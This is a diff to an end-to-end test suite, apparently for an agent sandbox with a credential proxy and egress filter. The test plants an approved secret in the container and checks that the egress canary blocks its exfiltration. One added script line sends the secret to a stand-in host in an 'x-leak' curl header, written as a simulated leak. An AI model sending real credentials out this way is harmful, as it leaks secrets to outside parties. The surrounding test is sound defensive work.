@@ -8,7 +8,7 @@ import { names } from '../../machines/names.js';
 import { readLockOwner } from '../../store/lock.js';
 import { eventsFile, lockFile } from '../../store/paths.js';
 import { bottle, type CliResult, ensureBuilt, MAIN } from '../support/cli.js';
-import { docker, removeAllLabelled, SUITE_ID } from '../support/docker.js';
+import { docker, execIn, removeAllLabelled, SUITE_ID } from '../support/docker.js';
 import { demux } from '../support/images.js';
 import { json, show, waitFor } from '../support/e2e.js';
 import { connectNetwork, startUpstreams, type UpstreamNet } from '../support/egress.js';
@@ -152,6 +152,10 @@ result current_routes "$(node -e 'console.log(JSON.parse(require("fs").readFileS
 for _ in $(seq 1 50); do c=$(curl -s -o /tmp/call.out -w '%{http_code}' http://cred-proxy:9099/later/hello); [ "$c" = 200 ] && break; sleep 0.2; done
 result call "$c"
 result body "$(cat /tmp/call.out)"
+# The test hands the agent the approved secret, as a leak would: the egress canary knows it.
+for _ in $(seq 1 300); do [ -s /tmp/leak ] && break; sleep 0.2; done
+result leak_plain "$(curl -s -o /dev/null -w '%{http_code}' -m 5 http://later.test/)"
+result leak_sent "$(curl -s -o /dev/null -w '%{http_code}' -m 5 -H "x-leak: $(cat /tmp/leak)" http://later.test/)"
 result finished yes
 sleep 600 & wait
 `;
@@ -420,19 +424,21 @@ describe('a route approved with a secret the human names reaches the running cre
   let seen: Record<string, unknown>[] = [];
   let stop: CliResult;
   let homeFiles: string[] = [];
+  let egressAudit: { source: string; alarm?: string; host?: string }[] = [];
 
   beforeAll(async () => {
     const api = await startKeyApi(sidecarImage, up.network, 'api.later.test');
     b = supervisedBottle(
       'route',
       ROUTE_SCRIPT,
-      { cred_proxy: { routes: [{ path: '/first', upstream: 'http://first.test', token: { env: 'FIRST_TOKEN' }, inject: { header: 'x-api-key', format: '{token}' } }] } },
+      { egress: { allow: ['later.test'] }, cred_proxy: { routes: [{ path: '/first', upstream: 'http://first.test', token: { env: 'FIRST_TOKEN' }, inject: { header: 'x-api-key', format: '{token}' } }] } },
       { FIRST_TOKEN: firstToken },
     );
     const started = await runDetached(b);
     identity = started.identity;
     identities.add(identity);
     await connectNetwork(up.network, names(identity).sidecar('cred-proxy'));
+    await connectNetwork(up.network, names(identity).sidecar('egress'));
     try {
       const first = await logResults(b, identity, /^RESULT id=p/m);
       await waitFor('the route proposal to be pending', async () => {
@@ -442,8 +448,11 @@ describe('a route approved with a secret the human names reaches the running cre
       approveWithout = await cli(b, ['approve', identity, first.id!]);
       // The secret is in the approving CLI's environment only, not the run owner's.
       approve = await bottle(['approve', identity, first.id!, '--token-env', 'LATER_TOKEN'], { cwd: b.dir, env: { ...b.env, LATER_TOKEN: laterToken } });
+      await logResults(b, identity, /^RESULT body=/m);
+      await execIn(`bottle-${identity}`, ['sh', '-c', 'umask 077; printf %s "$1" > /tmp/leak', 'sh', laterToken], { user: '1000' });
       r = await logResults(b, identity, /^RESULT finished=yes$/m);
       seen = (await api.lines()).filter((l) => l.kind === 'request');
+      egressAudit = json<{ source: string; alarm?: string; host?: string }[]>(await cli(b, ['audit', identity, '--json'])).filter((e) => e.source === 'egress');
     } finally {
       stop = await cli(b, ['stop', identity]);
     }
@@ -464,5 +473,11 @@ describe('a route approved with a secret the human names reaches the running cre
     expect(seen.map((x) => [x.url, x.key])).toEqual([['/hello', laterToken]]);
     expect(homeFiles).toEqual([]);
     expect(stop.code, show(stop)).toBe(0);
+  });
+
+  it('the egress canary knows the approved secret: sent to an allowed host, it is refused and raises the alarm', () => {
+    expect(r.leak_plain).toBe('200');
+    expect(r.leak_sent).toBe('403');
+    expect(egressAudit.filter((e) => e.alarm === 'token').map((e) => e.host)).toEqual(['later.test']);
   });
 });
